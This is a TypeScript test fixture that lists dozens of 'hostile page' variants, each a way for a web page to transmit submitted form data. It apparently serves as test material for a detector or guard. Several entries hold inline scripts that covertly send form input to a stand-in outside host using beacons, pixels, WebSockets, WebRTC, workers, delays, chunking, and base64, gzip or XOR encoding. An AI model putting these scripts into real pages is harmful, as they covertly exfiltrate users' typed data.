import type { HostilePage } from './hostile-page.ts';

const file = '<label for="resume">Resume</label><input id="resume" type="file" name="resume">';

/** Every way a page can send what was typed once send is pressed. */
export const waysOfSending: HostilePage[] = [
  { name: 'post-urlencoded' },
  {
    name: 'post-multipart',
    form: 'method="post" enctype="multipart/form-data" action="post-multipart/take"',
  },
  {
    name: 'post-with-file',
    form: 'method="post" enctype="multipart/form-data" action="post-with-file/take"',
    extra: file,
  },
  { name: 'post-text-plain', form: 'method="post" enctype="text/plain" action="post-text-plain/take"' },
  {
    name: 'post-json',
    script: `onSend(async () => { await fetch(take, { method: 'POST', body: JSON.stringify(Object.fromEntries(query())) }); thank(); });`,
  },
  {
    name: 'put-json',
    script: `onSend(async () => { await fetch(take, { method: 'PUT', body: JSON.stringify(Object.fromEntries(query())) }); thank(); });`,
  },
  {
    name: 'xhr',
    script: `onSend(() => { const request = new XMLHttpRequest(); request.open('POST', take); request.onload = thank; request.send(data()); });`,
  },
  {
    name: 'post-to-upload-path',
    script: `onSend(() => fetch(take + '/upload', { method: 'POST', body: data() }));`,
  },
  {
    name: 'post-to-events-path',
    script: `onSend(() => fetch(take + '/events', { method: 'POST', body: query() }));`,
  },
  { name: 'get-form', form: 'method="get" action="get-form/take"' },
  { name: 'form-without-method', form: 'action="form-without-method/take"', extra: file },
  {
    name: 'form-without-method-with-script',
    form: 'action="form-without-method-with-script/take"',
    script: `console.log('counted');`,
  },
  {
    name: 'get-by-button',
    form: 'method="post" action="get-by-button/take"',
    script: `form.querySelector('button').formMethod = 'get';`,
  },
  { name: 'get-set-at-click', script: `form.addEventListener('submit', () => { form.method = 'get'; });` },
  { name: 'get-by-location', script: `onSend(() => { location.href = take + '?' + query(); });` },
  {
    name: 'get-in-new-window',
    form: 'method="get" target="_blank" action="get-in-new-window/take"',
    script: ``,
  },
  { name: 'fetch-get', script: `onSend(() => fetch(take + '?' + query()));` },
  {
    name: 'fetch-get-and-thanks',
    script: `onSend(async () => { await fetch(take + '?' + query()); thank(); });`,
  },
  { name: 'fetch-get-base64', script: `onSend(() => fetch(take + '/' + btoa(query())));` },
  {
    name: 'fetch-get-reversed',
    script: `onSend(() => fetch(take + '?' + [...query().toString()].reverse().join('')));`,
  },
  { name: 'fetch-get-later', script: `onSend(() => setTimeout(() => fetch(take + '?' + query()), 2500));` },
  { name: 'fetch-get-away', script: `onSend(() => fetch(away + '?' + query(), { mode: 'no-cors' }));` },
  { name: 'pixel', script: `onSend(() => { new Image().src = take + '.gif?' + query(); });` },
  { name: 'pixel-away', script: `onSend(() => { new Image().src = away + '.gif?d=' + btoa(query()); });` },
  {
    name: 'stylesheet',
    script: `onSend(() => { const link = document.createElement('link'); Object.assign(link, { rel: 'stylesheet', href: take + '?' + query() }); document.head.append(link); });`,
  },
  {
    name: 'prefetch',
    script: `onSend(() => { const link = document.createElement('link'); Object.assign(link, { rel: 'prefetch', href: take + '?' + query() }); document.head.append(link); });`,
  },
  { name: 'event-source', script: `onSend(() => new EventSource(take + '?' + query()));` },
  { name: 'beacon', script: `onSend(() => navigator.sendBeacon(take + '/collect', query()));` },
  { name: 'beacon-away', script: `onSend(() => navigator.sendBeacon(away, query()));` },
  {
    name: 'beacon-when-hidden',
    script: `addEventListener('pagehide', () => navigator.sendBeacon(take + '/collect', query())); onSend(() => 0);`,
  },
  {
    name: 'keepalive',
    script: `onSend(() => fetch(away, { method: 'POST', mode: 'no-cors', keepalive: true, body: query() }));`,
  },
  {
    name: 'ping-attribute',
    script: `onSend(() => { const link = document.createElement('a'); Object.assign(link, { href: '#', ping: take + '?' + query() }); document.body.append(link); link.click(); });`,
  },
  {
    name: 'worker',
    worker: `onmessage = ({ data }) => fetch(take, { method: 'POST', body: data });`,
    script: `const worker = new Worker('worker/worker.js'); onSend(() => worker.postMessage(query().toString()));`,
  },
  {
    name: 'worker-get',
    worker: `onmessage = ({ data }) => fetch(take + '?' + data);`,
    script: `const worker = new Worker('worker-get/worker.js'); onSend(() => worker.postMessage(query().toString()));`,
  },
  {
    name: 'worker-socket',
    worker: `const socket = new WebSocket(take.replace('http', 'ws')); onmessage = ({ data }) => socket.send(data);`,
    script: `const worker = new Worker('worker-socket/worker.js'); onSend(() => worker.postMessage(query().toString()));`,
  },
  {
    name: 'nested-worker',
    worker: `if (location.hash) onmessage = ({ data }) => fetch(take + '?' + data); else { const inner = new Worker(location.pathname + '#inner'); onmessage = ({ data }) => inner.postMessage(data); }`,
    script: `const worker = new Worker('nested-worker/worker.js'); onSend(() => worker.postMessage(query().toString()));`,
  },
  {
    name: 'shared-worker',
    worker: `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch(take, { method: 'POST', body: data }); };`,
    script: `onSend(() => { const { port } = new SharedWorker('shared-worker/worker.js'); port.postMessage(query().toString()); });`,
  },
  {
    name: 'shared-worker-of-a-frame',
    worker: `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch(take, { method: 'POST', body: data }); };`,
    script: `onSend(() => { const frame = document.createElement('iframe'); document.body.append(frame); const { port } = new frame.contentWindow.SharedWorker('shared-worker-of-a-frame/worker.js'); port.postMessage(query().toString()); });`,
  },
  {
    name: 'service-worker',
    worker: `onmessage = ({ data }) => fetch(take, { method: 'POST', body: data });`,
    script: `onSend(async () => { const found = await navigator.serviceWorker.register('service-worker/worker.js'); (found.active ?? found.installing).postMessage(query().toString()); });`,
  },
  {
    name: 'socket',
    script: `const socket = new WebSocket(location.origin.replace('http', 'ws') + take); onSend(() => socket.send(query()));`,
  },
  {
    name: 'socket-away',
    script: `const socket = new WebSocket(away.replace('http', 'ws')); onSend(() => socket.send(query().toString()));`,
  },
  {
    name: 'socket-opened-late',
    script: `onSend(() => { const socket = new WebSocket(away.replace('http', 'ws')); socket.onopen = () => socket.send(btoa(query())); });`,
  },
  {
    name: 'socket-address',
    script: `onSend(() => new WebSocket(away.replace('http', 'ws') + '?' + query()));`,
  },
  {
    name: 'socket-binary',
    script: `const socket = new WebSocket(away.replace('http', 'ws')); onSend(() => socket.send(new TextEncoder().encode(btoa(query()))));`,
  },
  {
    name: 'web-transport',
    script: `onSend(async () => { const transport = new WebTransport(away.replace('http:', 'https:')); await transport.ready; });`,
  },
  {
    name: 'web-rtc',
    script: `onSend(() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(away).host, username: String(query()), credential: 'x' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); });`,
  },
  {
    name: 'frame-target',
    form: 'method="post" target="inner" action="frame-target/take"',
    extra: '<iframe name="inner" hidden></iframe>',
  },
  {
    name: 'frame-of-its-own',
    script: `onSend(() => { const frame = document.createElement('iframe'); frame.src = take + '?' + query(); document.body.append(frame); });`,
  },
  { name: 'new-window', form: 'method="post" target="_blank" action="new-window/take"' },
  { name: 'window-open', script: `onSend(() => window.open(take + '?' + query()));` },
  {
    name: 'base64-away',
    script: `onSend(() => fetch(away, { method: 'POST', mode: 'no-cors', body: btoa(query()) }));`,
  },
  {
    name: 'gzip-away',
    script: `onSend(async () => { const packed = new Blob([query()]).stream().pipeThrough(new CompressionStream('gzip')); fetch(away, { method: 'POST', mode: 'no-cors', body: await new Response(packed).blob() }); });`,
  },
  {
    name: 'xor-away',
    script: `onSend(() => fetch(away, { method: 'POST', mode: 'no-cors', body: new TextEncoder().encode(query()).map((byte) => byte ^ 90) }));`,
  },
  {
    name: 'chunks',
    parts: 3,
    script: `onSend(() => { for (const [key, value] of query()) fetch(away + '?' + key + '=' + encodeURIComponent(value), { mode: 'no-cors' }); });`,
  },
  {
    name: 'chunks-posted',
    parts: 3,
    script: `onSend(async () => { for (const pair of query()) await fetch(take, { method: 'POST', body: pair.join('=') }).catch(() => 0); });`,
  },
  {
    name: 'sends-twice',
    script: `onSend(async () => { await fetch(take, { method: 'POST', body: data() }); await fetch(take, { method: 'POST', body: data() }).catch(() => 0); thank(); });`,
  },
  {
    name: 'preconnect-host',
    script: `onSend(() => { const link = document.createElement('link'); Object.assign(link, { rel: 'preconnect', href: away }); document.head.append(link); });`,
    isDropped: true,
  },
  { name: 'thanks-without-sending', script: `onSend(thank);`, isUnfinished: true },
  { name: 'dead-button', script: `onSend(() => 0);`, isUnfinished: true },
];
